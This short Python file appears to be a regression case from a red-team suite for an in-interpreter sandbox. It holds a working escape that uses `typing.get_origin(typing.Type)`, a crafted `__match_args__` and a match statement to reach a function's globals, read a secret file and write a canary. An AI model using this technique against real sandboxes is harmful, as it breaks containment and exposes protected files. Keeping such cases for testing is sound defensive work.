# mypy: ignore-errors
# Technique: `typing.get_origin(typing.Type)` is the real `type`: three-argument calls then
# build a class from any namespace, e.g. an ABC with `__match_args__ = ("__globals__",)`, so a
# class pattern reads a runtime function's globals. Found in the red-team pass of the
# in-interpreter layer; was a real in-interpreter escape before the fix.
import typing

from suaveplan import fs


def attack(secret_path, canary_path):
    real_type = typing.get_origin(typing.Type)  # noqa: UP006 - the alias is the technique
    u = "_" * 2
    hook = classmethod(lambda cls, c: True)
    any_ = real_type(
        "Any",
        (typing.get_origin(typing.Callable),),
        {u + "match_args" + u: (u + "globals" + u,), u + "subclasshook" + u: hook},
    )
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
